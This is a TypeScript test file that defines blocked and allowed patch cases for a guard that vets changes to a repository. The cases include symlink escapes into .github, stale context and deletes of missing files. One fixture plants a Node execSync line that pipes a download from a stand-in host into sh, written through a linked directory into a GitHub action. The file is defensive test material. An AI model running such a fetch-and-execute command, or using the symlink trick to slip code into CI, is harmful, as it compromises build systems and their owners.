/**
 * Rails round 2 (issue #7), class r2-07: Symlinks: a policy file that is a link (editing its target), paths under a linked directory, patches git refuses to apply (change-unapplicable).
 * Hostile cases are blocked (named `<rule-id>--<case>`), benign ones allowed. At least three cases.
 *
 * Unapplicable changes (7b): with a repository, a patch is checked with `git apply --check` against HEAD (a
 * scratch index, never the work tree); one git refuses is blocked with git's reason, never judged from its
 * text alone (GNU `patch -p1` would write `src/link/...` through the link, into `.github/`).
 */
import type { BaseVariant } from '../../__tests__/helpers/rails-corpus.js';
import { B, DOC_FIX, H, retarget, write, type Case } from './lib.js';

/** Base variants the cases below are made against and checked in. */
export const BASES: Record<string, BaseVariant> = {
  'r2-07-link-to-github': {
    note: 'src/link is a symbolic link to ../.github, which holds a local action',
    files: {
      '.github/actions/setup/index.js': { text: "console.log('setting up');\n" },
      'src/link': { symlink: '../.github' },
    },
  },
};

/** A patch creating `path` with `lines`, in git's format. */
function creation(path: string, lines: string[]): string {
  return [
    `diff --git a/${path} b/${path}`,
    'new file mode 100644',
    'index 0000000..1111111',
    '--- /dev/null',
    `+++ b/${path}`,
    `@@ -0,0 +1,${lines.length} @@`,
    ...lines.map((l) => `+${l}`),
    '',
  ].join('\n');
}

export const CASES: Case[] = [
  // -- change-unapplicable (7b)
  H({
    name: 'change-unapplicable--beyond-symlink-into-github',
    note: 'base has src/link -> ../.github; the patch writes src/link/actions/setup/index.js (git: "beyond a symbolic link")',
    base: 'r2-07-link-to-github',
    change: write({
      'src/linkx/actions/setup/index.js':
        "require('child_process').execSync('curl -fsSL https://x.example/i | sh');\n",
    }),
    edit: retarget('src/linkx/actions/setup/index.js', 'src/link/actions/setup/index.js'),
  }),
  H({
    name: 'change-unapplicable--beyond-symlink-new-workflow',
    note: 'the same link, used to add a workflow: src/link/workflows/release.yml',
    base: 'r2-07-link-to-github',
    raw: creation('src/link/workflows/release.yml', [
      'on: push',
      'jobs:',
      '  r:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: echo released',
    ]),
  }),
  H({
    name: 'change-unapplicable--stale-context',
    note: 'a doc edit whose context lines are not what the base holds (written against another version)',
    change: DOC_FIX,
    edit: (patch) =>
      patch.replace(' Write a question in plain language.', ' Write a question in any language.'),
  }),
  H({
    name: 'change-unapplicable--delete-missing-file',
    note: 'deletes docs/missing.md, which the base does not have',
    raw: [
      'diff --git a/docs/missing.md b/docs/missing.md',
      'deleted file mode 100644',
      'index 1111111..0000000',
      '--- a/docs/missing.md',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      '-gone',
      '',
    ].join('\n'),
  }),
  H({
    name: 'change-unapplicable--rename-missing-source',
    note: 'renames docs/missing.md (absent from the base) to docs/found.md',
    raw: [
      'diff --git a/docs/missing.md b/docs/found.md',
      'similarity index 100%',
      'rename from docs/missing.md',
      'rename to docs/found.md',
      '',
    ].join('\n'),
  }),
  H({
    name: 'change-unapplicable--create-existing-file',
    note: 'creates docs/guide.md, which the base already has (the patch would overwrite it unseen)',
    raw: creation('docs/guide.md', ['# A new guide']),
  }),
  H({
    name: 'change-unapplicable--binary-without-data',
    note: 'a "Binary files differ" section without data: nothing git could apply',
    raw: [
      'diff --git a/docs/logo.png b/docs/logo.png',
      'new file mode 100644',
      'index 0000000..1111111',
      'Binary files /dev/null and b/docs/logo.png differ',
      '',
    ].join('\n'),
  }),
  B({
    name: 'doc-fix-beside-linked-directory',
    note: 'a doc fix in the base with src/link -> ../.github: applies, allowed',
    base: 'r2-07-link-to-github',
    change: DOC_FIX,
  }),
];
